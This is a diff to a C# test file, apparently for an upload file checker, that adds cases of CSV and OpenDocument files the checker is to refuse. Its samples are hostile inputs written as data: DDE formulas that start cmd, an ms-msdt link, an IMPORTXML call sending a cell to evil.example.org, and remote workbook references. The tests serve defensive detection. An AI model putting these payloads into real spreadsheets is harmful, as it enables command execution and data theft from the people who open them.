@@ -1,3 +1,4 @@
+using System.Text;
 using AreaSend.FileChecks.Tests.Samples;
 using static AreaSend.FileChecks.Tests.OddFile;
 
@@ -54,7 +55,7 @@ internal static class OddMore
         Refused("OpenDocument: a link to a command of LibreOffice", "plan.odt", "runs without a question (CVE-2023-6186)", "link-that-runs", Runs, () => Open("text", $"<a {Href}=\".uno:Open\"/>").ToBytes()),
         Refused("OpenDocument: a link to a script", "plan.odt", "of the reader's own installation", "link-that-runs", Runs, () => Open("text", $"<a {Href}=\"vnd.sun.star.script:x.py$main?language=Python&amp;location=share\"/>").ToBytes()),
         Refused("OpenDocument: a form that is sent", "plan.odt", "to another machine", "external-link", External, () => Open("text", """<xf:submission xmlns:xf="http://www.w3.org/2002/xforms" action="https://evil.example.org/x" method="post"/>""").ToBytes()),
-        Refused("OpenDocument: a range that asks a database", "list.ods", "it is asked anew on opening", "data-connection", "The workbook has a connection", () => Open("spreadsheet", "<database-source-sql/>").ToBytes()),
+        Refused("OpenDocument: a range that asks a database", "list.ods", "it is asked anew on opening", "data-connection", "The file has a connection", () => Open("spreadsheet", "<database-source-sql/>").ToBytes()),
         Refused("OpenDocument: a slide that starts a program", "plan.odp", "on a click", "macros", "The file contains macros", () => Open("presentation", $"<presentation:event-listener {Slide}=\"execute\"/>").ToBytes()),
         Taken("OpenDocument: a slide that leads to the next", "plan.odp", "a button in most slide shows", FileKind.Odp, () => Open("presentation", $"<presentation:event-listener {Slide}=\"next-page\"/>").ToBytes()),
         Refused("OpenDocument: a font from elsewhere", "plan.odt", "is fetched on opening", "external-link", External, () => Open("text", $"<font-face-uri {Href}=\"//evil.example.org/a.ttf\"/>").ToBytes()),
@@ -78,6 +79,12 @@ internal static class OddMore
         Refused("link that starts a program in a CSV", "list.csv", "a click is enough", "link-that-runs", Runs, () => "Name\r\n\"=HYPERLINK(\"\"ms-msdt:/id x\"\",\"\"Open\"\")\"\r\n"u8.ToArray()),
         Refused("table that is imported in a CSV", "list.csv", "Google Sheets asks another machine", "external-link", External, () => "Name\r\n\"=IMPORTXML(CONCAT(\"\"https://evil.example.org/?\"\",A1),\"\"//a\"\")\"\r\n"u8.ToArray()),
         Refused("command behind a sum in a CSV", "list.csv", "the command stands within the formula", "command", Command, () => "Name\r\n=1+IF(1,cmd|' /C calc'!A0,2)\r\n"u8.ToArray()),
+        Elsewhere("on a share", @"='\\evil\s\[x.xlsx]S'!A1"),
+        Elsewhere("on a page", "='http://evil.example.org/[x.xlsx]S'!A1"),
+        Elsewhere("of LibreOffice", "='file://evil/s/x.ods'#$S.A1"),
+        Elsewhere("in brackets", "=[http://evil.example.org/x.xlsx]S!A1"),
+        Taken("addresses in notes of a CSV", "list.csv", "in brackets and apostrophes, as people write them", FileKind.Text, () => "Name\r\n- see [https://example.org/#a] or 'https://example.org'\r\n"u8.ToArray()),
+        Refused("command behind a blank that parts cells", "list.csv", "sep= with a space", "command", Command, () => "sep= \r\nx =cmd|'/C calc'!A0\r\n"u8.ToArray()),
         Taken("link to a page in a CSV", "list.csv", "an ordinary one", FileKind.Text, () => "Name\r\n\"=HYPERLINK(\"\"https://example.org\"\",\"\"Page\"\")\"\r\n"u8.ToArray()),
     ];
 
@@ -87,6 +94,9 @@ internal static class OddMore
             () => new CompoundSample().Stream("Workbook", LegacySample.Xls()).Stream("WORKBOOK", LegacySample.Xls(LegacySample.Sheet(isMacro: true))).ToBytes()),
         Refused("old document with a package beside it", "plan.doc", "a file of any kind", "embedded-object", "Another file is embedded", () => new CompoundSample().Stream("WordDocument", LegacySample.Doc()).Stream("package", "MZ"u8.ToArray()).ToBytes()),
     ];
+
+    private static OddFile Elsewhere(string name, string cell) => Refused(
+        "cell of another book in a CSV: " + name, "list.csv", "the program fetches it", "external-link", External, () => Encoding.UTF8.GetBytes($"Name\r\n{cell}\r\n"));
 
     private static OddFile Twins(string name, string one, string other) => Refused(
         "zip twins: " + name, "plans.zip", "one file on a Mac", "archive-twice", "The archive holds two files with one name", () => new ZipSample().Add(one, "a").Add(other, "b").ToBytes());
